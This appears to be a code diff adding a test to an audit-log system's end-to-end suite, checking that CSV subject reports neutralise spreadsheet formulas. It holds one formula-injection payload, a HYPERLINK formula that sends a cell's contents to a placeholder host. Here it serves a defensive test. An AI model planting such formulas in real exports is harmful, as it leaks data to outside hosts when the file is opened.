@@ -3,7 +3,9 @@ independent RFC 6962 verifier (tests/e2e/rfc6962.py, hashlib only) and by
 the openssl CLI; search, subject reports, export bundles, roles; tampering,
 kill -9 under load, and a full disk. Real processes over loopback mTLS."""
 import base64
+import csv
 import glob
+import io
 import json
 import os
 import re
@@ -244,6 +246,17 @@ class AuditEndToEndTest(unittest.TestCase):
         r = self.env.auditor("get", str(seq), "--json")
         self.assertEqual(json.loads(r.stdout)["attribution"], "ATTRIBUTION_CLAIMED")
         self.assertEqual(json.loads(r.stdout)["record"]["purpose_code"], purpose)
+        # A purpose a spreadsheet would run as a formula is exported as text.
+        formula = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
+        r = self.env.call(H29, "motcua", "bca.population", formula, "--query",
+                          f"citizen_id={subject}", "--subject", subject, pki_agency=H30)
+        self.assertNotEqual(r.returncode, 0, r.stdout)
+        r = self.env.auditor("subject-report", "--subject", subject, "--format", "csv")
+        cells = [row[6] for row in csv.reader(io.StringIO(r.stdout))]
+        self.assertIn("'" + formula, cells)
+        self.assertNotIn(formula, cells)
+        r = self.env.auditor("subject-report", "--subject", subject, "--format", "jsonl")
+        self.assertIn(formula, [json.loads(line)["purpose_code"] for line in r.stdout.splitlines()])
 
     def test_roles(self):
         r = self.env.dxctl("audit", "query", "--gateway", self.env.gateway, "--pki",
